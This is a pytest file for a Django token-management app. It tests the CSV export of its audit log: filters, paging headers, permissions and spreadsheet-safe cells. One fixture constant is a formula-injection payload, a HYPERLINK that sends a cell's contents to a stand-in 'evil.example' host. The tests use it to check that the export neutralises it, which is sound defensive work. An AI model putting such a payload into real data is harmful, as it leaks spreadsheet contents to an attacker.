"""The audit log as CSV: the JSON list's filters, paging in headers, spreadsheet-safe cells."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import datetime
from urllib.parse import parse_qs, urlsplit

import pytest
from django.test import Client

from tests.audit.events import COLUMNS, at, march_events, record_at
from tests.web.conftest import submit_login
from tokenward.audit.models import Action, AuditEvent
from tokenward.audit.renderers import spreadsheet_cell
from tokenward.audit.services import ClientInfo
from tokenward.credentials import format as token_format
from tokenward.credentials.format import TokenType

pytestmark = pytest.mark.django_db

URL = "/api/audit-events"
CSV = {"format": "csv"}
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def events(admin, member, outsider) -> dict[str, AuditEvent]:
    """Five events on five days, oldest first."""
    return march_events(admin, member, outsider)


def table(response) -> list[dict[str, str]]:
    """Return the CSV body's rows by column, after checking its header row."""
    header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8"), newline=""))
    assert header == COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


def ids(response) -> list[int]:
    return [int(row["id"]) for row in table(response)]


def newest_first(events: dict[str, AuditEvent], *names: str) -> list[int]:
    return sorted((events[name].pk for name in names), reverse=True)


def links(response) -> dict[str, str]:
    """Return the ``Link`` header's targets by relation."""
    if "Link" not in response.headers:
        return {}
    parts = [
        re.fullmatch(r'<([^<>]+)>; rel="(\w+)"', part) for part in response["Link"].split(", ")
    ]
    assert all(parts), response["Link"]
    return {match[2]: match[1] for match in parts}


def assert_is_csv(response) -> None:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="audit-events.csv"'
    assert response["Cache-Control"] == "private, no-store"


def assert_is_json_error(response, status: int) -> dict:
    assert response.status_code == status
    assert response["Content-Type"] == "application/json"
    assert "Content-Disposition" not in response
    return response.json()


# The format.


@pytest.mark.parametrize(
    ("params", "headers"),
    [(CSV, {}), ({}, {"HTTP_ACCEPT": "text/csv"}), ({}, {"HTTP_ACCEPT": "text/csv; q=1"})],
    ids=["format-parameter", "accept-header", "accept-with-quality"],
)
def test_csv_is_asked_with_format_or_accept(as_basic, admin, events, params, headers):
    response = as_basic(admin).get(URL, params, **headers)

    assert_is_csv(response)
    assert ids(response) == newest_first(events, *events)
    assert response["X-Total-Count"] == "5"


def test_json_stays_the_default(as_basic, admin, events):
    response = as_basic(admin).get(URL, HTTP_ACCEPT="*/*")

    assert response["Content-Type"] == "application/json"
    assert response.json()["count"] == 5
    assert response["Cache-Control"] == "private, no-store"
    assert "X-Total-Count" not in response


def test_rows_hold_the_jsons_fields_times_in_utc_and_null_as_empty(as_basic, admin, events):
    client = as_basic(admin)

    rows = table(client.get(URL, CSV))
    results = client.get(URL).json()["results"]

    assert rows[2] == {
        "id": str(events["revoked"].pk),
        "at": "2026-03-03T23:00:00Z",
        "action": "revoked",
        "actor": "boss",
        "subject": "mwhite",
        "credential_kind": "personal_token",
        "credential_id": "7",
        "method": "web",
        "reason": "",
        "address": "198.51.100.1",
        "user_agent": "Firefox",
    }
    assert rows[0]["actor"] == rows[0]["subject"] == rows[0]["user_agent"] == ""
    assert rows[0]["address"] == "2001:db8::1"
    as_json = [{k: "" if v is None else str(v) for k, v in result.items()} for result in results]
    assert rows == as_json
    for row in rows:
        assert datetime.fromisoformat(row["at"]).utcoffset().total_seconds() == 0


def test_the_body_is_rfc_4180_every_cell_quoted_and_lines_ending_in_crlf(as_basic, admin, events):
    body = as_basic(admin).get(URL, {**CSV, "limit": 1}).content.decode()

    header, row, end = body.split("\r\n")
    assert header == ",".join(f'"{column}"' for column in COLUMNS)
    assert row.startswith(f'"{events["unknown"].pk}","2026-03-05T10:00:00Z","failed",""')
    assert end == ""


def test_no_event_gives_the_header_row_alone(as_basic, admin):
    response = as_basic(admin).get(URL, CSV)

    assert_is_csv(response)
    assert table(response) == []
    assert response["X-Total-Count"] == "0"
    assert "Link" not in response


# The filters.


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"user": "mwhite"}, ["issued", "failed", "revoked"]),
        ({"user": "stranger"}, ["cli"]),
        ({"action": "failed"}, ["failed", "unknown"]),
        ({"method": "web"}, ["revoked"]),
        ({"method": "basic"}, []),
        ({"since": "2026-03-02T10:00:00Z", "until": "2026-03-04T10:00:00Z"}, ["failed", "revoked"]),
        ({"since": "2026-03-05T12:00:00+02:00"}, ["unknown"]),
        ({"user": "mwhite", "action": "failed", "method": "bearer"}, ["failed"]),
    ],
)
def test_filters_apply_to_csv_as_to_json(as_basic, admin, events, params, expected):
    client = as_basic(admin)

    response = client.get(URL, {**CSV, **params})

    assert_is_csv(response)
    assert ids(response) == newest_first(events, *expected)
    assert response["X-Total-Count"] == str(len(expected))
    assert [e["id"] for e in client.get(URL, params).json()["results"]] == ids(response)


@pytest.mark.parametrize(
    ("params", "errors"),
    [
        ({"user": "nobody"}, {"user": ["There is no user with this login."]}),
        ({"action": "deleted"}, {"action": ['"deleted" is not a valid choice.']}),
        ({"since": "yesterday"}, {"since": None}),
        (
            {"since": "2026-03-04T00:00:00Z", "until": "2026-03-02T00:00:00Z"},
            {"until": ["until must be later than since."]},
        ),
    ],
)
@pytest.mark.parametrize("ask", ["format", "accept"])
def test_a_bad_filter_is_a_json_400_even_when_csv_was_asked(
    as_basic, admin, events, params, errors, ask
):
    client = as_basic(admin)
    if ask == "format":
        response = client.get(URL, {**CSV, **params})
    else:
        response = client.get(URL, params, HTTP_ACCEPT="text/csv")

    body = assert_is_json_error(response, 400)
    assert body["detail"] == "The request is invalid; see errors."
    assert body["code"] == "invalid"
    assert list(body["errors"]) == list(errors)
    for name, messages in errors.items():
        if messages is not None:
            assert body["errors"][name] == messages
    assert AuditEvent.objects.count() == 5  # a refused read writes nothing


# Paging.


def test_pages_carry_their_links_and_the_total_in_headers(as_basic, admin, events):
    client = as_basic(admin)
    newest = newest_first(events, *events)

    first = client.get(URL, {**CSV, "limit": 2})
    middle = client.get(URL, {**CSV, "limit": 2, "offset": 2})
    last = client.get(URL, {**CSV, "limit": 2, "offset": 4})

    assert [ids(first), ids(middle), ids(last)] == [newest[:2], newest[2:4], newest[4:]]
    assert {page["X-Total-Count"] for page in (first, middle, last)} == {"5"}
    base = "http://testserver/api/audit-events?format=csv&limit=2"
    assert links(first) == {"next": f"{base}&offset=2"}
    assert links(middle) == {"next": f"{base}&offset=4", "prev": base}
    assert links(last) == {"prev": f"{base}&offset=2"}


def test_following_next_links_walks_every_event_once_with_the_filters(as_basic, admin, events):
    client = as_basic(admin)

    seen, url, pages = [], URL, 0
    params = {**CSV, "action": "failed", "limit": 1}
    while url:
        response = client.get(url, params)
        assert_is_csv(response)
        seen += ids(response)
        url, params, pages = links(response).get("next"), None, pages + 1

    assert pages == 2
    assert seen == newest_first(events, "failed", "unknown")


def test_links_asked_through_accept_page_on_with_the_same_header(as_basic, admin, events):
    client = as_basic(admin)

    first = client.get(URL, {"limit": 3}, HTTP_ACCEPT="text/csv")
    second = client.get(links(first)["next"], HTTP_ACCEPT="text/csv")

    assert_is_csv(second)
    assert ids(first) + ids(second) == newest_first(events, *events)
    assert links(second) == {"prev": "http://testserver/api/audit-events?limit=3"}


def test_an_offset_past_the_end_is_an_empty_page_that_links_back(as_basic, admin, events):
    response = as_basic(admin).get(URL, {**CSV, "limit": 2, "offset": 9})

    assert_is_csv(response)
    assert table(response) == []
    assert response["X-Total-Count"] == "5"
    assert set(links(response)) == {"prev"}


def test_csv_pages_are_fifty_by_default_and_five_hundred_at_most(as_basic, admin):
    AuditEvent.objects.bulk_create(
        AuditEvent(at=at(1), action=Action.FAILED, credential_kind="personal_token", method="api")
        for _ in range(501)
    )
    client = as_basic(admin)

    default = client.get(URL, CSV)
    largest = client.get(URL, {**CSV, "limit": 100_000})

    assert len(table(default)) == 50
    assert len(table(largest)) == 500
    assert default["X-Total-Count"] == largest["X-Total-Count"] == "501"
    assert links(largest)["next"].endswith("limit=500&offset=500")
    assert len(table(client.get(URL, {**CSV, "limit": "many"}))) == 50


# Cells a spreadsheet would run.


def test_a_formula_sent_as_a_user_agent_is_text_in_the_csv(as_basic, as_token, admin):
    unknown = token_format.generate(TokenType.PERSONAL)
    refused = as_token(unknown).get("/api/users/me", HTTP_USER_AGENT=HYPERLINK)
    assert refused.status_code == 401
    recorded = AuditEvent.objects.get(action=Action.FAILED)
    assert recorded.user_agent == HYPERLINK  # stored as sent

    client = as_basic(admin)
    (row,) = table(client.get(URL, {**CSV, "action": "failed"}))

    assert row["user_agent"] == "'" + HYPERLINK
    assert row["reason"] == "invalid_token"
    assert unknown not in client.get(URL, CSV).content.decode()
    # JSON is no spreadsheet: it shows the value as recorded.
    assert client.get(URL, {"action": "failed"}).json()["results"][0]["user_agent"] == HYPERLINK


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("curl/8 (x=1)", "curl/8 (x=1)"),
        ("'quoted", "'quoted"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_a_cell_that_would_run_as_a_formula_starts_with_a_quote(value, cell):
    assert spreadsheet_cell(value) == cell


def test_every_column_is_neutralised_not_only_the_user_agent(as_basic, admin):
    event = record_at(
        at(1),
        Action.FAILED,
        credential_kind="@kind",
        credential_id="-1",
        reason="+reason",
        client=ClientInfo(method="=method", user_agent="\tagent"),
    )

    (row,) = table(as_basic(admin).get(URL, CSV))

    assert row["id"] == str(event.pk)
    assert [row[c] for c in ("credential_kind", "credential_id", "method", "reason")] == [
        "'@kind",
        "'-1",
        "'=method",
        "'+reason",
    ]
    assert row["user_agent"] == "'\tagent"


def test_non_ascii_user_agents_round_trip_in_utf_8(as_basic, as_token, admin):
    agent = "Zürich-Client/1.0 (東京; ñ; 🦀)"
    refused = as_token(token_format.generate(TokenType.PERSONAL)).get(
        "/api/users/me", HTTP_USER_AGENT=agent
    )
    assert refused.status_code == 401

    response = as_basic(admin).get(URL, CSV)

    assert_is_csv(response)
    assert agent.encode("utf-8") in response.content
    assert [row["user_agent"] for row in table(response)] == [agent]


# Who may read it.


@pytest.mark.parametrize("headers", [{}, {"HTTP_ACCEPT": "text/csv"}])
def test_a_member_is_refused_in_json(as_basic, member, events, headers):
    response = as_basic(member).get(URL, CSV if not headers else {}, **headers)

    assert assert_is_json_error(response, 403) == {
        "detail": "Only administrators read the audit log.",
        "code": "permission_denied",
    }


@pytest.mark.parametrize("headers", [{}, {"HTTP_ACCEPT": "text/csv"}])
def test_anonymous_is_asked_to_authenticate_in_json(api, events, headers):
    response = api.get(URL, CSV if not headers else {}, **headers)

    assert assert_is_json_error(response, 401) == {
        "detail": "Authentication credentials were not provided.",
        "code": "not_authenticated",
    }
    assert response["WWW-Authenticate"].startswith('Basic realm="tokenward"')


def test_an_unknown_format_is_a_json_404(as_basic, admin, events):
    response = as_basic(admin).get(URL, {"format": "pdf"})

    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"


# The schema.


def test_the_schema_documents_the_filters_the_csv_and_its_paging_headers(api):
    schema = api.get("/api/schema", HTTP_ACCEPT="application/vnd.oai.openapi+json").json()

    operation = schema["paths"]["/api/audit-events/"]["get"]
    parameters = {p["name"]: p for p in operation["parameters"]}
    for name in ["user", "action", "method", "since", "until", "limit", "offset"]:
        assert parameters[name]["in"] == "query"
        assert parameters[name]["description"], name
    assert "csv" in parameters["format"]["schema"]["enum"]
    reply = operation["responses"]["200"]
    assert reply["content"]["text/csv"] == {"schema": {"type": "string"}}
    assert set(reply["content"]) == {"application/json", "application/xml", "text/csv"}
    assert set(reply["headers"]) == {"Link", "X-Total-Count"}
    assert "text/csv" not in operation["responses"]["400"]["content"]


# The administration page's link.


@pytest.fixture
def as_admin(admin) -> Client:
    browser = Client(enforce_csrf_checks=True)
    assert submit_login(browser, admin.login, admin.raw_password).status_code == 302
    return browser


def download_link(response) -> str:
    found = re.findall(r'<a [^>]*href="([^"]+)"[^>]*>Download CSV</a>', response.content.decode())
    assert len(found) == 1
    return html.unescape(found[0])


def test_the_audit_page_links_the_csv_of_its_filters(as_admin, events):
    page = as_admin.get(
        "/admin/audit/",
        {"user": "mwhite", "action": "failed", "since": "2026-03-01", "until": "2026-03-02"},
    )
    assert page.status_code == 200

    link = download_link(page)
    assert urlsplit(link).path == URL
    assert parse_qs(urlsplit(link).query) == {
        "format": ["csv"],
        "user": ["mwhite"],
        "action": ["failed"],
        "since": ["2026-03-01T00:00:00+00:00"],
        "until": ["2026-03-03T00:00:00+00:00"],  # "to" includes its whole day
        "limit": ["500"],
    }
    response = as_admin.get(link)  # the page's session cookie is the credential
    assert_is_csv(response)
    assert ids(response) == [events["failed"].pk]


def test_the_audit_page_without_filters_links_the_whole_newest_page(as_admin, events):
    link = download_link(as_admin.get("/admin/audit/"))

    assert parse_qs(urlsplit(link).query) == {"format": ["csv"], "limit": ["500"]}
    assert ids(as_admin.get(link)) == newest_first(events, *events)


def test_the_audit_page_with_a_bad_filter_offers_no_download(as_admin, events):
    page = as_admin.get("/admin/audit/", {"user": "nobody"})

    assert page.status_code == 400
    assert "Download CSV" not in page.content.decode()
